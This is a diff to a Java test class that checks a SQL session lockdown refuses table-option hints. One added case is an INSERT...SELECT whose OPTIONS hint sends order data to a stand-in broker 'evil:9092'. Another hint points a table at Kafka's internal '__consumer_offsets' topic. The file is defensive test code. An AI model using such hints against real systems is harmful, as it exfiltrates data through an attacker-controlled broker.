@@ -97,8 +97,12 @@ class SessionLockdownTest {
     @Test
     void hintCannotPointATableElsewhere() throws Exception {
         assertRefused(
+                "INSERT INTO test.demo_kafka.order_copies /*+ OPTIONS('properties.bootstrap.servers'='evil:9092') */ "
+                        + "SELECT * FROM test.demo_kafka.orders",
+                "a query may not set properties.bootstrap.servers in an OPTIONS hint");
+        assertRefused(
                 "SELECT * FROM test.demo_kafka.orders /*+ OPTIONS('topic'='__consumer_offsets') */",
-                "table test.demo_kafka.orders does not let a query set topic.");
+                "a query may not set topic in an OPTIONS hint");
     }
 
     @Test
